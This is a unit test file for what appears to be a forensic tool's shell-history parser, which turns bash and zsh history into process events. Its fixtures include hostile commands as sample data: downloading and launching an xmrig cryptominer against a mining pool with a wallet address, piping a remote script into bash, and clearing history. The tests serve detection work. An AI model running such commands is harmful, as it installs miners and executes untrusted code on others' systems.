import { test } from "node:test";
import assert from "node:assert/strict";
import { parseWith, sniffWith } from "../../../test-helpers/index.js";
import { shellHistorySource, userFromHistoryPath } from "./history.js";

const WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

// bash with HISTTIMEFORMAT set writes "#<epoch seconds>" before each command (bash(1), HISTORY).
const TIMED = [
  "#1795038000",
  "cd /tmp",
  "#1795038010",
  `curl -sL http://198.51.100.9/xmrig.tar.gz -o x.tgz && tar xzf x.tgz && ./xmrig -o pool.supportxmr.com:443 -u ${WALLET} -k --tls`,
  "#1795038020",
  "history -c",
].join("\n");

test("bash history with #timestamps: one process event per command, timed, user from the path", async () => {
  const { events, issues } = await parseWith(shellHistorySource, TIMED, "collected/home/deploy/.bash_history");
  assert.deepEqual(issues, []);
  assert.equal(events.length, 3);
  assert.deepEqual(events[1], {
    "event.dataset": "shell.history",
    "event.category": ["process"],
    "event.kind": "event",
    "log.file.path": "collected/home/deploy/.bash_history",
    "minerhunt.format": "shell.history",
    "minerhunt.line": 4,
    "@timestamp": "2026-11-18T21:40:10.000Z",
    "process.command_line": `curl -sL http://198.51.100.9/xmrig.tar.gz -o x.tgz && tar xzf x.tgz && ./xmrig -o pool.supportxmr.com:443 -u ${WALLET} -k --tls`,
    "process.args": ["curl", "-sL", "http://198.51.100.9/xmrig.tar.gz", "-o", "x.tgz", "&&", "tar", "xzf", "x.tgz", "&&", "./xmrig", "-o",
      "pool.supportxmr.com:443", "-u", WALLET, "-k", "--tls"],
    "process.name": "curl",
    "user.name": "deploy",
  });
});

test("bash history without timestamps and zsh extended history", async () => {
  const plain = await parseWith(shellHistorySource, "ls -la\n\nwget -q -O - http://198.51.100.9/s.sh | bash\n", "root/.bash_history");
  assert.deepEqual(plain.events.map((e) => [e["minerhunt.line"], e["process.command_line"], e["@timestamp"], e["user.name"]]), [
    [1, "ls -la", undefined, "root"],
    [3, "wget -q -O - http://198.51.100.9/s.sh | bash", undefined, "root"],
  ]);
  const zsh = await parseWith(shellHistorySource, ": 1795038010:0;./xmrig -o pool.minexmr.com:4444\n", "home/al/.zsh_history");
  assert.equal(zsh.events[0]!["process.command_line"], "./xmrig -o pool.minexmr.com:4444");
  assert.equal(zsh.events[0]!["@timestamp"], "2026-11-18T21:40:10.000Z");
});

test("a timestamp out of range is reported with its line and the command kept untimed", async () => {
  const { events, issues } = await parseWith(shellHistorySource, "#99999999999\nuname -a\n", ".bash_history");
  assert.equal(events[0]!["@timestamp"], undefined);
  assert.deepEqual(issues.map((i) => i.line), [1]);
});

test("sniffed by file name or by timestamp lines; other text is not claimed", async () => {
  assert.ok(await sniffWith(shellHistorySource, "ls\ncd /tmp\n", "case/root/.bash_history") >= 0.9);
  assert.ok(await sniffWith(shellHistorySource, "ls\n", "evidence/web01_bash_history.txt") >= 0.9);
  assert.ok(await sniffWith(shellHistorySource, TIMED, "ticket-17.txt") >= 0.8);
  assert.equal(await sniffWith(shellHistorySource, "ls\ncd /tmp\n", "notes.txt"), 0);
  assert.equal(await sniffWith(shellHistorySource, "# comment\nfoo bar\n", "README"), 0);
});

test("user from the history file's path", () => {
  assert.equal(userFromHistoryPath("/home/alice/.bash_history"), "alice");
  assert.equal(userFromHistoryPath("triage/web01/root/.bash_history"), "root");
  assert.equal(userFromHistoryPath("C:\\cases\\home\\bob\\.zsh_history"), "bob");
  assert.equal(userFromHistoryPath("bash_history.txt"), undefined);
});
